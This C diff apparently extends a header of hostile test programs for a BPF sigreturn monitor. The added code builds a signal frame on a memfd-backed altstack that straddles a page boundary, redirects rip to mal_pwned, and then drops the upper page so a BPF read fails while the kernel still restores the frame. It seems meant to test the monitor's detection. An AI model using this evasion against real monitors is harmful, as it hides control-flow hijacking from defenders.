@@ -551,4 +551,77 @@ static MAL_UNUSED void mal_same_cpu_flood(int threads, long warm_ms)
 }
 #endif /* MAL_FLOOD */
 
+#ifdef MAL_UNREAD_FRAME
+/*
+ * The frame no BPF program can read at a sigreturn's entry, while the kernel can (class 6:
+ * srop_unreadable_frame, srop_unread_skip). The handler runs on a sigaltstack that is a
+ * MAP_SHARED memfd mapping, placed so that its frame straddles a page boundary: pretcode and the
+ * registers on the lower page, the end of the frame (siginfo) on the upper one. Once armed, the
+ * handler moves rip to mal_pwned, then drops the upper page's mapping with MADV_DONTNEED: the
+ * bytes stay in the memfd, so the kernel's copy faults them back in, but a BPF read never faults
+ * (copy_from_user_nofault) and fails. Uses MAL_REDIRECT_SITE()'s redirect_site_tgkill.
+ */
+#define MAL_ALT_SIZE (64 * 1024)
+#define MAL_PAGE     4096ul
+
+extern long redirect_site_tgkill(long pid, long tid, long sig); /* MAL_REDIRECT_SITE() */
+
+static char *mal_alt;
+static volatile uint64_t mal_frame_addr;
+static volatile int mal_tamper;
+
+static void mal_unread_handler(int sig, siginfo_t *info, void *ucv)
+{
+	ucontext_t *uc = ucv;
+	uint64_t frame = (uint64_t)ucv - 8;
+
+	(void)sig;
+	(void)info;
+	mal_frame_addr = frame;
+	if (!mal_tamper)
+		return;
+	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)mal_pwned;
+	/* The page after the one holding rip: the frame's tail (siginfo) and the FP state. */
+	madvise((void *)((frame & ~(MAL_PAGE - 1)) + MAL_PAGE), MAL_PAGE, MADV_DONTNEED);
+}
+
+static void mal_set_altstack(uint64_t top)
+{
+	stack_t ss = {.ss_sp = mal_alt, .ss_size = top - (uint64_t)mal_alt, .ss_flags = 0};
+
+	if (sigaltstack(&ss, NULL))
+		mal_die(MAL_EXIT_SETUP, "sigaltstack");
+}
+
+/* Map the altstack, install the handler for sig (SA_ONSTACK), and deliver sig once to learn how
+ * far below the altstack's top the kernel puts the frame; then move the top so that the next
+ * frame starts 256 bytes or a little more below a page boundary: rip (+176) below it, the
+ * siginfo (+312) above. Arm with mal_tamper = 1, then deliver sig through redirect_site_tgkill. */
+static MAL_UNUSED void mal_unread_frame_setup(int sig)
+{
+	uint64_t top, k, want;
+	int fd = memfd_create("altstack", MFD_CLOEXEC);
+
+	if (fd < 0 || ftruncate(fd, MAL_ALT_SIZE + 2 * MAL_PAGE))
+		mal_die(MAL_EXIT_SETUP, "memfd");
+	mal_alt =
+	    mmap(NULL, MAL_ALT_SIZE + 2 * MAL_PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (mal_alt == MAP_FAILED)
+		mal_die(MAL_EXIT_SETUP, "mmap");
+	mal_handle(sig, mal_unread_handler, SA_ONSTACK);
+	top = (uint64_t)mal_alt + MAL_ALT_SIZE;
+	mal_set_altstack(top);
+	redirect_site_tgkill(getpid(), syscall(SYS_gettid), sig);
+	if (!mal_frame_addr)
+		mal_die(MAL_EXIT_SETUP, "no delivery");
+	k = top - mal_frame_addr;
+	/* Multiples of 64 keep the frame's alignment the same. */
+	want = (((uint64_t)mal_alt + MAL_ALT_SIZE / 2) & ~(MAL_PAGE - 1)) - 256;
+	top = (want + k) & ~63ul;
+	mal_set_altstack(top);
+	mal_say("frame %#lx bytes below the altstack top; frame now at %#lx", (unsigned long)k,
+		(unsigned long)(top - k));
+}
+#endif /* MAL_UNREAD_FRAME */
+
 #endif /* MAL_H */
